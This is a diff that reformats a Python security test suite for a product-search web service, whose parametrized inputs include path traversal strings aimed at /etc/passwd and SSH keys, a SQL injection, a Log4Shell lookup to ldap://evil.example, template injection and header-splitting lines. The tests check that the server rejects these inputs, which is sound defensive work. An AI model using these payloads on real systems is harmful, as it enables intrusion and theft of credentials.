@@ -76,13 +76,37 @@ def test_every_operation_of_the_document_wants_a_key(shop: Shop, keyring: Keyrin
 
 
 CLIMBING = (
-    "../secret.json", "..%2fsecret.json", "%2e%2e/secret.json", "%2e%2e%2fsecret.json", "%252e%252e%252fsecret.json",
-    "..%252fsecret.json", "..\\secret.json", "..%5csecret.json", "%2e%2e%5csecret.json", "....//secret.json",
-    "..%00/secret.json", "secret.json%00.png", "%c0%ae%c0%ae%c0%afsecret.json", "..;/secret.json", "/secret.json",
-    "//secret.json", "%2fetc%2fpasswd", "/etc/passwd", "....%2f%2fsecret.json", "x/../../secret.json",
-    "file:%2f%2f%2fetc%2fpasswd", "../../../../../../etc/passwd", "..%2f" * 12 + "etc%2fpasswd", "~root/.ssh/id_rsa",
-    "con", ".", "..", "%2e%2e", "*", "secret%E2%80%AEjson",
-)  # fmt: skip
+    "../secret.json",
+    "..%2fsecret.json",
+    "%2e%2e/secret.json",
+    "%2e%2e%2fsecret.json",
+    "%252e%252e%252fsecret.json",
+    "..%252fsecret.json",
+    "..\\secret.json",
+    "..%5csecret.json",
+    "%2e%2e%5csecret.json",
+    "....//secret.json",
+    "..%00/secret.json",
+    "secret.json%00.png",
+    "%c0%ae%c0%ae%c0%afsecret.json",
+    "..;/secret.json",
+    "/secret.json",
+    "//secret.json",
+    "%2fetc%2fpasswd",
+    "/etc/passwd",
+    "....%2f%2fsecret.json",
+    "x/../../secret.json",
+    "file:%2f%2f%2fetc%2fpasswd",
+    "../../../../../../etc/passwd",
+    "..%2f" * 12 + "etc%2fpasswd",
+    "~root/.ssh/id_rsa",
+    "con",
+    ".",
+    "..",
+    "%2e%2e",
+    "*",
+    "secret%E2%80%AEjson",
+)
 
 
 @pytest.mark.parametrize(
@@ -105,10 +129,23 @@ def test_no_path_leaves_what_is_served(shop: Shop, base: str) -> None:
                 assert b"root:" not in got
 
 
-@pytest.mark.parametrize("name", [
-    "../../secret", "/etc/passwd", "P001/../P002", "..\\secret", "\x00", "P001\x00", "%2e%2e", "*", "P00?",
-    "'; DROP TABLE products; --", "${jndi:ldap://evil.example}", "{{7*7}}",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../secret",
+        "/etc/passwd",
+        "P001/../P002",
+        "..\\secret",
+        "\x00",
+        "P001\x00",
+        "%2e%2e",
+        "*",
+        "P00?",
+        "'; DROP TABLE products; --",
+        "${jndi:ldap://evil.example}",
+        "{{7*7}}",
+    ],
+)
 def test_a_product_id_is_a_value_and_nothing_else(client: TestClient, name: str) -> None:
     only = {"must": {"key": "product_id", "match": {"value": name}}}
     for body in ({"product_id": name}, {"product_id": "P001", "where": only}):
@@ -135,13 +172,25 @@ def test_a_report_runs_no_scripts(client: TestClient) -> None:
 # Headers, addresses and logs
 
 
-@pytest.mark.parametrize("line", [
-    b"X-Request-ID: a\r\n\tb", b"X-Request-ID: a\nX-Evil: 1", b"X-Request-ID: a\rX-Evil: 1",
-    b"traceparent: 00-\r\n X-Evil: 1", b"traceparent: \x00",
-    b"X-API-Key: a\rX-Evil: 1", b"X-API-Key: a\x00b", b"Authorization: Bearer a\nX-Evil: 1",
-    b"Origin: https://evil.example\rX-Evil: 1", b"X-Forwarded-For: 1.2.3.4\rX-Evil: 1", b"X-Evil\x0b: 1", b" X-Evil: 1",
-    b"X-Long: " + b"a" * 200_000, b"\r\n".join(b"X-%d: y" % n for n in range(3000)),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"X-Request-ID: a\r\n\tb",
+        b"X-Request-ID: a\nX-Evil: 1",
+        b"X-Request-ID: a\rX-Evil: 1",
+        b"traceparent: 00-\r\n X-Evil: 1",
+        b"traceparent: \x00",
+        b"X-API-Key: a\rX-Evil: 1",
+        b"X-API-Key: a\x00b",
+        b"Authorization: Bearer a\nX-Evil: 1",
+        b"Origin: https://evil.example\rX-Evil: 1",
+        b"X-Forwarded-For: 1.2.3.4\rX-Evil: 1",
+        b"X-Evil\x0b: 1",
+        b" X-Evil: 1",
+        b"X-Long: " + b"a" * 200_000,
+        b"\r\n".join(b"X-%d: y" % n for n in range(3000)),
+    ],
+)
 def test_headers_that_are_none(shop: Shop, line: bytes) -> None:
     """The server refuses them, or what it answers holds nothing of them."""
     with running(app_over(shop)) as port:
@@ -160,10 +209,17 @@ def test_headers_that_are_none(shop: Shop, line: bytes) -> None:
             assert connection.recv(100).split()[1] == b"200"
 
 
-@pytest.mark.parametrize("path", [
-    "/v1/products/" + "x" * 60_000, "/v1/similar?product_id=" + "x" * 60_000, "/" + "a/" * 20_000,
-    "/v1/similar?" + "&".join(f"a{n}=1" for n in range(900)), "/?" + "=" * 10_000,
-], ids=["id", "parameter", "folders", "parameters", "equals signs"])  # fmt: skip
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/v1/products/" + "x" * 60_000,
+        "/v1/similar?product_id=" + "x" * 60_000,
+        "/" + "a/" * 20_000,
+        "/v1/similar?" + "&".join(f"a{n}=1" for n in range(900)),
+        "/?" + "=" * 10_000,
+    ],
+    ids=["id", "parameter", "folders", "parameters", "equals signs"],
+)
 def test_very_long_addresses(client: TestClient, path: str) -> None:
     got = client.get(path)
     assert got.status_code in (200, 400, 404, 414, 422)
@@ -201,12 +257,17 @@ def test_logs_hold_no_lies(shop: Shop, keyring: Keyring) -> None:
                     "x-request-id": lie.encode(),
                     "x-forwarded-for": lie.encode(),
                 }
-                got = [client.get(f"/v1/products/{encoded}", headers=agent), client.get(f"/{encoded}", headers=agent),
-                       client.post("/v1/similar", json={"product_id": f"P{lie}"}), client.get(f"/?{encoded}"),
-                       client.post("/v1/similar", json={"product_id": "P001", "where": [f"brand{lie}=x"]}),
-                       client.post("/v1/similar", json={"url": f"http://shop.example/{lie}"}),
-                       client.post("/v1/similar", json={lie: 1}), client.post("/v1/text", json={"text": lie + "gold"}),
-                       guarded.get("/v1/reports", headers={"x-api-key": lie.encode()})]  # fmt: skip
+                got = [
+                    client.get(f"/v1/products/{encoded}", headers=agent),
+                    client.get(f"/{encoded}", headers=agent),
+                    client.post("/v1/similar", json={"product_id": f"P{lie}"}),
+                    client.get(f"/?{encoded}"),
+                    client.post("/v1/similar", json={"product_id": "P001", "where": [f"brand{lie}=x"]}),
+                    client.post("/v1/similar", json={"url": f"http://shop.example/{lie}"}),
+                    client.post("/v1/similar", json={lie: 1}),
+                    client.post("/v1/text", json={"text": lie + "gold"}),
+                    guarded.get("/v1/reports", headers={"x-api-key": lie.encode()}),
+                ]
                 for response in got:
                     assert response.headers["x-request-id"].isascii()
                     if response.status_code >= 400:
